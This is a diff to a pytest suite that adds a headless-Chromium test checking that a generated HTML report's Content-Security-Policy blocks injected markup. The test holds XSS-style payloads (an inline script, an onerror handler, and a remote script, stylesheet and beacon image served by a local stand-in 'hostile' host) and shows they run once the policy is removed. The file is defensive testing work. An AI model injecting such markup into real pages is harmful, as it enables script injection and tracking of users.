@@ -5,6 +5,7 @@ sort and the thumbnails."""
 from __future__ import annotations
 
 import html
+import http.server
 import io
 import json
 import os
@@ -361,3 +362,61 @@ def test_hostile_instruction_and_repeated_keys_in_headless_chromium(tmp_path, ch
     pixels = np.asarray(Image.open(shot).convert("RGB")).astype(int)
     for colour in (other_in, other_edit, EDIT_COLOUR):  # the second shard's pictures and the first's edit
         assert int((np.abs(pixels - np.array(colour)).max(axis=2) <= 30).sum()) > 50 * 50, colour
+
+
+class _Beacon(http.server.BaseHTTPRequestHandler):
+    """Stands for a remote host a hostile page would load from or report to; records every request."""
+
+    hits: list[str] = []  # noqa: RUF012 - one list for the class, read by the test
+
+    def do_GET(self):
+        self.hits.append(self.path)
+        body = b'document.documentElement.setAttribute("data-pwned-remote", "1");'
+        self.send_response(200)
+        self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/css")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.mark.slow
+def test_the_report_runs_only_its_own_script_and_style_and_loads_nothing_in_headless_chromium(tmp_path, chromium):
+    """Markup injected into the page (as if a value escaped its escaping) may not run script, inline or remote,
+    nor load anything; the page's own script and style still work. The same page without its policy runs
+    the payload: the test's payload is a real one."""
+    from tests.local_http import serving
+
+    out = make_run(tmp_path, n_ok=2, n_err=0)
+    html_path = tmp_path / "report.html"
+    write_report(str(out), str(html_path))
+    page = html_path.read_text()
+    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
+    assert "default-src 'none'" in csp and "unsafe-inline" not in csp and "http" not in csp
+    assert page.index("Content-Security-Policy") < page.index("<style>")  # a policy applies to what follows it
+
+    _Beacon.hits = []
+    with serving(_Beacon) as base:
+        payload = ('<script>document.documentElement.setAttribute("data-pwned", "inline")</script>'
+                   '<img src="x:" onerror="document.documentElement.setAttribute(\'data-pwned-handler\', \'1\')">'
+                   f'<script src="{base}/x.js"></script><link rel="stylesheet" href="{base}/x.css">'
+                   f'<img src="{base}/beacon.png">')
+        hostile = page.replace('<main id="rows"></main>', payload + '<main id="rows"></main>')
+        locked, unlocked = tmp_path / "locked.html", tmp_path / "unlocked.html"
+        locked.write_text(hostile)
+        unlocked.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", hostile))
+        dom = _browser(chromium, tmp_path, locked.as_uri(), "--dump-dom").stdout
+        shot = tmp_path / "locked.png"
+        _browser(chromium, tmp_path, locked.as_uri(), f"--screenshot={shot}")
+        locked_hits = list(_Beacon.hits)
+        open_dom = _browser(chromium, tmp_path, unlocked.as_uri(), "--dump-dom").stdout
+
+    assert len(re.findall(r'<section class="card', dom)) == 2, dom[-2000:]  # the page's own script ran
+    assert "data-pwned" not in dom and locked_hits == []
+    pixels = np.asarray(Image.open(shot).convert("RGB")).astype(int)
+    header = int((np.abs(pixels - np.array((0x1D, 0x23, 0x30))).max(axis=2) <= 4).sum())
+    assert header > 1300 * 20  # the page's own style applied: its dark header band
+    assert 'data-pwned="inline"' in open_dom and 'data-pwned-handler="1"' in open_dom
+    assert 'data-pwned-remote="1"' in open_dom and "/beacon.png" in _Beacon.hits
